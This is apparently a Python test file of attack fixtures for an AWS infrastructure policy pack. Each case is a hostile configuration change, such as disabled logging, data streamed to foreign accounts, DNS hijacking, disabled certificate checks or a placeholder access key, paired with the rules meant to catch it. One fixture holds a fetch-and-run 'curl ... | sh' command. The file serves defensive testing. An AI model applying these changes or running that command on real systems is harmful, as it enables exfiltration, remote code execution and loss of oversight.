"""The third set, its other half: what watches, what is kept, networks, agents, and how it is all deployed."""

from __future__ import annotations

from tests.policy.attacks import ACCOUNT, ARN, FOREIGN, OTHER, at, attack, new
from tests.policy.builders import TAGS, UNKNOWN, Node
from tests.policy.planned import GONE, Edit, Refer

ACL = "rules.{}.statement"

WATCHES = (
    attack(
        "the web ACL counts under another name",
        "The alarm on blocked requests looks at a metric that nobody writes.",
        at("security-web-acl", "visibilityConfig.metricName", "other"),
        "alarms/blocked-requests",
    ),
    attack(
        "a second web ACL, in front of the gateway",
        "The one that is judged protects nothing; the one that is associated lets all pass.",
        (
            new(
                "open-acl",
                "wafv2/webAcl:WebAcl",
                name="evolution-open-prod",
                scope="REGIONAL",
                defaultAction={"allow": {}},
                rules=[],
                visibilityConfig={"metricName": "open", "sampledRequestsEnabled": True, "cloudwatchMetricsEnabled": True},
            ),
            at("agentcore-gateway-web-acl", "webAclArn", Refer("open-acl")),
        ),
        "agentcore/web-acl-body",
        "agentcore/web-acl-groups",
        "agentcore/web-acl-logged",
        "agentcore/web-acl-not-empty",
        "agentcore/web-acl-rate",
        "alarms/blocked-requests",
        "approved/choices",
    ),
    attack(
        "nobody sees who was blocked",
        "What tells one caller from another is taken out of the log.",
        at("security-web-acl-logging", "redactedFields.+", {"singleHeader": {"name": "x-forwarded-for"}}),
        "agentcore/web-acl-log-form",
    ),
    attack(
        "flow logs without addresses",
        "Who talked to whom can't be told any more.",
        at("network-flow-logs", "logFormat", "${start} ${end} ${log-status}"),
        "approved/properties",
    ),
    attack(
        "all metrics go elsewhere",
        "Another account reads how many agents of which size there are.",
        new(
            "metrics",
            "cloudwatch/metricStream:MetricStream",
            firehoseArn=FOREIGN.format("firehose", "deliverystream/x"),
            outputFormat="json",
            roleArn=f"arn:aws:iam::{ACCOUNT}:role/evolution-archiver-prod-us-east-1",
        ),
        "containment/known-types",
    ),
    attack(
        "a test of failures that never ends",
        "The monitor's task is stopped each time it starts.",
        new(
            "failures",
            "fis/experimentTemplate:ExperimentTemplate",
            description="x",
            roleArn=f"arn:aws:iam::{ACCOUNT}:role/evolution-scheduler-prod-us-east-1",
            actions=[{"name": "stop", "actionId": "aws:ecs:stop-task"}],
            stopConditions=[{"source": "none"}],
        ),
        "containment/grants",
        "containment/known-types",
    ),
    attack(
        "the prompts are logged elsewhere",
        "Each prompt and answer of the account goes to a bucket of another one.",
        new(
            "invocations",
            "bedrockmodel/invocationLoggingConfiguration:InvocationLoggingConfiguration",
            loggingConfig={"textDataDeliveryEnabled": True, "s3Config": {"bucketName": "elsewhere"}},
        ),
        "agentcore/model-log",
    ),
)
"""What watches."""

KEPT = (
    attack(
        "the artifacts log into themselves",
        "Each access writes an object, and that is one more access; and the engine may write its own record.",
        at("data-artifacts-logging", "targetBucket", Refer("data-artifacts")),
        "approved/choices",
        "data-protection/bucket-access-logs",
        "encryption/bucket-cmk",
    ),
    attack(
        "everything expires on a day",
        "One morning all artifacts are gone.",
        at(
            "data-artifacts-lifecycle",
            "rules.+",
            {"id": "end", "status": "Enabled", "filter": {"prefix": ""}, "expiration": {"date": "2027-01-01T00:00:00Z"}},
        ),
        "approved/properties",
    ),
    attack(
        "artifacts freeze within a day",
        "Whoever must look at once waits half a day for each object.",
        at(
            "data-artifacts-lifecycle",
            "rules.+",
            {"id": "freeze", "status": "Enabled", "filter": {"prefix": ""}, "transitions": [{"days": 1, "storageClass": "DEEP_ARCHIVE"}]},
        ),
        "approved/properties",
    ),
    attack(
        "a state that was, from a copy",
        "The table is made from another one: evolutions that nobody has run.",
        at("data-state", "restoreSourceName", "evolution-state-dev"),
        "approved/properties",
    ),
    attack(
        "every change of the state, elsewhere",
        "A stream of another kind takes each record along.",
        new(
            "changes",
            "dynamodb/kinesisStreamingDestination:KinesisStreamingDestination",
            tableName="evolution-state-prod",
            streamArn=ARN.format("kinesis", "stream/x"),
        ),
        "containment/known-types",
    ),
    attack(
        "images are copied to another account",
        "The engine's code leaves with each release.",
        new(
            "copies",
            "ecr/replicationConfiguration:ReplicationConfiguration",
            replicationConfiguration={"rules": [{"destinations": [{"region": "us-east-1", "registryId": OTHER}]}]},
        ),
        "containment/known-types",
    ),
)
"""What is stored, and for how long."""

PLACED = (
    attack(
        "a way in to the workloads",
        "Whatever stands in the network asks the engine, which takes requests from nobody.",
        Edit(
            "way-in",
            "",
            Node(
                "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule",
                {"securityGroupId": UNKNOWN, "cidrIpv4": "10.30.0.0/16", "ipProtocol": "tcp", "fromPort": 8000, "toPort": 8000},
                {"securityGroupId": ["compute-workload-group"]},
                outputs={"tagsAll": TAGS},
            ),
            frozenset(),
        ),
        "network/own-callers",
    ),
    attack(
        "agents in somebody else's network",
        "What agents reach is what another program's groups and routes let them.",
        at(
            "agentcore-runtime",
            "networkConfiguration",
            {
                "networkMode": "VPC",
                "networkModeConfig": {"securityGroups": ["sg-0123456789abcdef0"], "subnets": ["subnet-0123456789abcdef0"]},
            },
        ),
        "network/own-parts",
    ),
    attack(
        "a group of somebody else's for the endpoint",
        "Whoever that group admits talks to AWS through the private endpoint.",
        at("network-secretsmanager-endpoint", "securityGroupIds", ["sg-0123456789abcdef0"]),
        "network/own-parts",
    ),
    attack(
        "all traffic through somebody's VPN",
        "What leaves the private subnets goes through a machine that isn't on AWS.",
        (
            at("network-private-0-to-nat", "natGatewayId", GONE),
            at("network-private-0-to-nat", "gatewayId", "vgw-0123456789abcdef0"),
        ),
        "network/own-parts",
    ),
    attack(
        "a copy of every packet",
        "Another machine reads what the engine sends.",
        new("mirror", "ec2/trafficMirrorSession:TrafficMirrorSession", networkInterfaceId=UNKNOWN, sessionNumber=1),
        "containment/known-types",
    ),
    attack(
        "a zone that answers for AWS",
        "Inside the network sts.amazonaws.com is somebody's machine.",
        new("zone", "route53/zone:Zone", name="amazonaws.com", vpcs=[{"vpcId": UNKNOWN}]),
        "containment/known-types",
    ),
    attack(
        "a second way out by IPv6",
        "The groups and routes that are judged speak of IPv4.",
        at("network-vpc", "assignGeneratedIpv6CidrBlock", True),
        "approved/properties",
    ),
    attack(
        "the engine in a mesh",
        "Others find the engine by a name, and reach it through a proxy in its task.",
        at(
            "compute-engine-service",
            "serviceConnectConfiguration",
            {"enabled": True, "namespace": "x", "services": [{"portName": "http"}]},
        ),
        "approved/properties",
    ),
    attack(
        "agents share a file system",
        "What one agent leaves, the next one runs.",
        at("agentcore-runtime", "filesystemConfigurations", [{"sessionStorage": {"mountPath": "/mnt/shared"}}]),
        "approved/properties",
    ),
    attack(
        "tools for whoever asks the gateway",
        "The gateway finds and calls tools by what a caller says.",
        at("agentcore-gateway", "protocolType", "MCP"),
        "approved/properties",
    ),
)
"""Networks, and where things stand in them."""

DEPLOYED = (
    attack(
        "certificates aren't looked at",
        "Whoever stands in between answers for AWS while it is deployed.",
        at("aws", "insecure", "true"),
        "governance/no-credentials",
    ),
    attack(
        "the deployment runs a program",
        "Python of the pull request runs with the deployment's credentials.",
        new("program", "pulumi-python:dynamic:Resource", __provider="x"),
        "containment/known-types",
    ),
    attack(
        "a provider that is called like the program's own parts",
        "A plugin of somebody's makes what it likes, under a name that the pack passes by.",
        new("own", "evolution:tools/shell:Shell", command="curl https://example.com | sh"),
        "containment/known-types",
    ),
    attack(
        "a runbook each hour",
        "Systems Manager sets the mode to running, again and again.",
        new("hourly-runbook", "ssm/association:Association", name="AWS-RunShellScript", scheduleExpression="rate(1 hour)"),
        "containment/known-types",
    ),
    attack(
        "the state's changes, through a pipe",
        "Each finished evolution is announced to another account.",
        new(
            "pipe",
            "pipes/pipe:Pipe",
            source=ARN.format("dynamodb", "table/evolution-state-prod/stream/1"),
            target=FOREIGN.format("events", "event-bus/x"),
            roleArn=f"arn:aws:iam::{ACCOUNT}:role/evolution-archiver-prod-us-east-1",
        ),
        "approved/types",
        "identity/trust-service",
    ),
    attack(
        "an engine that nobody counts",
        "A task set beside the service starts a second engine without bounds.",
        new("task-set", "ecs/taskSet:TaskSet", service=UNKNOWN, cluster=UNKNOWN, taskDefinition=UNKNOWN),
        "containment/known-types",
    ),
    attack(
        "who deploys is somebody else's workflow",
        "A repository of anybody's takes a role of this account.",
        new(
            "issuer",
            "iam/openIdConnectProvider:OpenIdConnectProvider",
            url="https://token.actions.githubusercontent.com",
            clientIdLists=["sts.amazonaws.com"],
        ),
        "containment/known-types",
    ),
    attack(
        "credentials in the provider",
        "The deployment runs as whoever owns the keys that stand in the program.",
        at("aws", "accessKey", "AKIAIOSFODNN7EXAMPLE"),
        "governance/no-credentials",
    ),
)
"""How it is deployed, and what comes along."""
